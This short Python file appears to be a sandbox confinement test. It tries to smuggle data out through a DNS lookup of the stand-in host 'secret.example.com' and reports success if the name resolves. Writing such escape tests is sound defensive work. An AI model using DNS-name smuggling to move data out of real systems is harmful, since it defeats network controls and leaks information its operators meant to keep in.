"""Smuggles data out in a name that it asks to have resolved."""

# stops = full, confined

import socket

socket.setdefaulttimeout(1)
try:
    socket.getaddrinfo("secret.example.com", 80)
    succeed()
except OSError:
    pass
